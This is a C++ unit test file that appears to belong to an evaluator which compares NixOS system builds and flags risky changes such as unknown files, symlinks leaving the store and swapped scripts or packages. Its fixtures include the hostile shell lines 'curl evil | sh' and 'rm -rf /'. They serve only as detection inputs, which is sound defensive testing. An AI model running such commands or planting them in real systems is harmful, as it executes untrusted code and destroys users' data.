#include "tests/unit/evaluator/effects_machine.hpp"

#include "evaluator/effects/compare.hpp"
#include "evaluator/effects/store_text.hpp"

using namespace agentd;
using namespace agentd::test;
using proposals::Risk;

TEST_CASE("a file nobody knows is unclassified and high") {
    Pair pair;
    const auto before = plain_machine();
    auto after = before;
    after.etc["oddity"] = "curl evil | sh\n";
    const auto found = pair.compare(before, after);
    CHECK(names(found) == std::vector<std::string>{"unclassified/unclassified_added etc/oddity"});
    CHECK(found.effects.front().risk == Risk::high);
}

TEST_CASE("an unknown file of the toplevel itself is unclassified") {
    Pair pair;
    const auto before = plain_machine();
    auto after = before;
    after.files["preswitch"] = "rm -rf /\n";
    CHECK(the(pair.compare(before, after), "unclassified_added").subject == "preswitch");
}

TEST_CASE("a link out of the store is an effect of its own") {
    Pair pair;
    const auto before = plain_machine();
    auto after = before;
    after.etc_links["profile.local"] = "/tmp/evil";
    const auto found = pair.compare(before, after);
    const auto& effect = the(found, "unclassified_added");
    CHECK(effect.risk == Risk::high);
    CHECK(effect.sentence.find("/tmp/evil") != std::string::npos);
}

TEST_CASE("a link that climbs out through the places it may name is still a link out") {
    Pair pair;
    const auto before = plain_machine();
    auto after = before;
    after.etc_links["x"] = "/run/../tmp/evil";
    CHECK(the(pair.compare(before, after), "unclassified_added").risk == Risk::high);
}

TEST_CASE("a link to a place of run time is told as such") {
    Pair pair;
    const auto before = plain_machine();
    auto after = before;
    after.etc_links["mtab"] = "/proc/mounts";
    CHECK(names(pair.compare(before, after)) == std::vector<std::string>{"etc/etc_added etc/mtab"});
}

TEST_CASE("a loop of links ends, and is unclassified") {
    Pair pair;
    const auto before = plain_machine();
    auto after = before;
    after.etc_links["loop"] = "loop";
    after.etc_links["around"] = "../etc";
    const auto found = pair.compare(before, after);
    CHECK(names(found) == std::vector<std::string>{"unclassified/unclassified_added etc/around",
                                                   "unclassified/unclassified_added etc/loop"});
    CHECK(found.effects.back().after->find("never ends") != std::string::npos);
}

TEST_CASE("a file too large to read is unclassified, not skipped") {
    Pair pair;
    const auto before = plain_machine();
    auto after = before;
    after.etc["sudoers"] = std::string(5U << 20, '#');
    CHECK(the(pair.compare(before, after), "unclassified_changed").subject == "etc/sudoers");
}

TEST_CASE("a tree with more names than the limit says that it is not all there") {
    Pair pair;
    const auto built = pair.build(plain_machine());
    const auto tree =
        effects::read_tree(effects::StoreReader(pair.store.prefix), built.path, {.entries = 12});
    CHECK(tree.truncated);
    CHECK(tree.nodes.size() == 12);
}

TEST_CASE("names and versions come apart as Nix does it") {
    using effects::parse_package_name;
    CHECK(parse_package_name("nginx-1.26.2") == effects::PackageName{"nginx", "1.26.2"});
    CHECK(parse_package_name("util-linux-2.39-bin") == effects::PackageName{"util-linux", "2.39"});
    CHECK(parse_package_name("unit-sshd.service") == effects::PackageName{"unit-sshd.service", ""});
    CHECK(parse_package_name("python3.11-six-1.16") ==
          effects::PackageName{"python3.11-six", "1.16"});
}

TEST_CASE("a script behind an unchanged name is read, not believed") {
    Pair pair;
    const auto good = pair.store.file("hook.sh", "#!/bin/sh\necho fine\n", true);
    const auto same = pair.store.file("hook.sh", "#!/bin/sh\necho fine\n", true);
    const auto evil = pair.store.file("hook.sh", "#!/bin/sh\necho evil\n", true);
    const effects::StoreReader reader(pair.store.prefix);
    const effects::Side side{.store = reader, .closure = {{good, 1}, {same, 1}, {evil, 1}}};
    effects::Comparer comparer(side, side);
    CHECK(comparer.texts("run " + good, "run " + same) == effects::Likeness::builds);
    CHECK(comparer.texts("run " + good, "run " + evil) == effects::Likeness::differs);
    CHECK(comparer.lines() == std::vector<std::string>{"+ echo evil", "- echo fine"});
}

TEST_CASE("a script that calls itself etc or users-groups.json is read all the same") {
    for (const auto* name : {"etc", "users-groups.json", "system-path"}) {
        Pair pair;
        auto before = plain_machine();
        auto after = before;
        before.units["x.service"] =
            "[Service]\nExecStart=" + pair.store.file(name, "echo fine\n", true) + "\n";
        after.units["x.service"] =
            "[Service]\nExecStart=" + pair.store.file(name, "echo evil\n", true) + "\n";
        CHECK(the(pair.compare(before, after), "unit_root_exec").subject == "x.service");
    }
}

TEST_CASE("a versioned name does not hide a changed script") {
    Pair pair;
    auto before = plain_machine();
    auto after = before;
    before.units["x.service"] =
        "[Service]\nExecStart=" + pair.store.file("job-1.0", "echo fine\n", true) + "\n";
    after.units["x.service"] =
        "[Service]\nExecStart=" + pair.store.file("job-1.1", "echo evil\n", true) + "\n";
    CHECK(has(pair.compare(before, after), "unit_root_exec"));
}

TEST_CASE("what a script names and no closure holds is no other build of a package") {
    Pair pair;
    auto before = plain_machine();
    auto after = before;
    const auto good = pair.store.package("coreutils-9.1");
    before.packages = after.packages = {good};
    before.activation = good + "/bin/run";
    // The same name and version, built by whoever wanted to: named as mere text, so that the
    // closure of the system does not hold it.
    const auto evil = pair.store.package("coreutils-9.1");
    after.activation = evil + "/bin/run";
    const auto old_system = pair.build(before);
    auto new_system = pair.build(after);
    new_system.closure.erase(evil);
    CHECK(names(pair.compare(old_system, new_system)) ==
          std::vector<std::string>{"scripts/activation_changed activate"});
}

TEST_CASE("a link to what no closure holds is told, though the same bytes are there today") {
    for (const std::string name : {"bin/switch-to-configuration", "activate", "etc/hosts"}) {
        Pair pair;
        const auto machine = plain_machine();
        const auto before = pair.build(machine);
        auto after = pair.build(machine);
        std::string place = after.path + "/" + name;
        if (name == "etc/hosts") {
            place = std::filesystem::canonical(after.path + "/etc").string() + "/hosts";
        }
        const auto twin = pair.store.next("twin");
        std::filesystem::copy_file(place, twin);
        std::filesystem::remove(place);
        std::filesystem::create_symlink(twin, place);
        const auto found = pair.compare(before, after);
        CAPTURE(name, names(found));
        CHECK(std::any_of(found.effects.begin(), found.effects.end(), [&](const auto& each) {
            return each.subject == name && each.risk == Risk::high;
        }));
        after.closure[twin] = 1;
        CHECK(pair.compare(before, after).effects.empty());
    }
}

TEST_CASE("a link that leads through what no closure holds is told, also when it leads back") {
    for (const std::string name : {"activate", "sw", "etc"}) {
        Pair pair;
        const auto machine = plain_machine();
        const auto before = pair.build(machine);
        auto after = pair.build(machine);
        const std::string place = after.path + "/" + name;
        const auto bound = std::filesystem::canonical(place).string();
        const auto copy = pair.store.next("bound");
        std::filesystem::copy(bound, copy,
                              std::filesystem::copy_options::recursive |
                                  std::filesystem::copy_options::copy_symlinks);
        after.closure.emplace(copy, 1);
        const auto detour = pair.store.next("detour");
        std::filesystem::create_symlink(copy, detour);
        std::filesystem::remove_all(place);
        std::filesystem::create_symlink(detour, place);
        INFO(name);
        CHECK_FALSE(pair.compare(before, after).effects.empty());
    }
}

TEST_CASE("a program of the system path that no closure holds is no package") {
    Pair pair;
    auto machine = plain_machine();
    const auto good = pair.store.package("coreutils-9.1", "ls");
    machine.packages = {good};
    const auto before = pair.build(machine);
    const auto evil = pair.store.package("coreutils-9.1", "ls");
    machine.packages = {evil};
    auto after = pair.build(machine);
    after.closure.erase(evil);
    const auto found = pair.compare(before, after);
    CHECK(std::any_of(found.effects.begin(), found.effects.end(),
                      [](const auto& effect) { return effect.risk >= Risk::high; }));
}
